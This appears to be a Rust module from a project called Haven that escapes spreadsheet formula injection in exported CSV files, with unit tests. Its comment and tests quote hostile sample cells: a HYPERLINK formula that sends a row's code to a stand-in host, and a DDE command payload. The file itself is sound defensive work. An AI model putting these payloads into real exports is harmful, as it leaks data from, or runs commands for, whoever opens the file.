//! CSV for spreadsheets, written safely: every file Haven writes for people to open (the
//! office's invitations, the AUP report, the governors' report) goes through [`SafeCsv`].
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some also
//! after a tab, a carriage return or leading spaces), so a name imported as
//! `=HYPERLINK("https://x.example/?c="&D2,"Click")` would send the row's link code away when the
//! file is opened. [`neutralise`] puts a `'` in front of such a cell: spreadsheets show the text
//! as typed and run nothing. This module never drops or reorders cells, and never changes a cell
//! that cannot run.

use std::borrow::Cow;
use std::io::Write;

/// Characters that make a spreadsheet read a cell as a formula (or that hide one after them).
/// The full-width forms are read as their ASCII twins by some spreadsheets.
const RUNS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The cell as a spreadsheet will show it without running anything: unchanged unless its first
/// character (or the first after leading spaces) could start a formula, then with a `'` before.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let first = cell.chars().next();
    let first_visible = cell.trim_start_matches(' ').chars().next();
    let runs = |c: Option<char>| c.is_some_and(|c| RUNS.contains(&c));
    if runs(first) || runs(first_visible) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV writer whose every cell is [`neutralise`]d.
pub struct SafeCsv<W: Write> {
    out: csv::Writer<W>,
}

impl<W: Write> SafeCsv<W> {
    pub fn new(w: W) -> Self {
        SafeCsv {
            out: csv::Writer::from_writer(w),
        }
    }

    /// Writes one row.
    pub fn row<I, S>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.out.write_record(&cells)
    }

    /// Writes out what is buffered.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_cell_a_spreadsheet_would_run_is_neutralised() {
        let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
        let tails = [
            "",
            "1+1",
            "HYPERLINK(\"https://x.example/?c=\"&D2,\"Click\")",
            "cmd|' /C calc'!A0",
        ];
        for start in starts {
            for tail in tails {
                for pad in ["", " ", "   "] {
                    let cell = format!("{pad}{start}{tail}");
                    assert_eq!(neutralise(&cell), format!("'{cell}"), "{cell:?}");
                }
            }
        }
    }

    #[test]
    fn ordinary_cells_are_left_alone() {
        for cell in [
            "",
            "Aisha Rahman",
            "O'Neill-Jones",
            "ABCD-EFGH-JKMN",
            "2026-07-01 00:30",
            "42",
            "a=b",
            "https://t.me/HavenDemoBot?start=ABCDEFGHJKMN",
            "Łucja @ home",
        ] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell}"
            );
        }
    }

    #[test]
    fn rows_are_written_neutralised_and_quoted_as_csv_needs() {
        let mut out = Vec::new();
        let mut w = SafeCsv::new(&mut out);
        w.row(["name", "code"]).unwrap();
        w.row(["=HYPERLINK(\"x\",\"y\")", "ABCD-EFGH-JKMN"])
            .unwrap();
        w.row(["Nowak, Ola", "-1"]).unwrap();
        w.flush().unwrap();
        drop(w);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "name,code\n\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\",ABCD-EFGH-JKMN\n\"Nowak, Ola\",'-1\n"
        );
    }
}
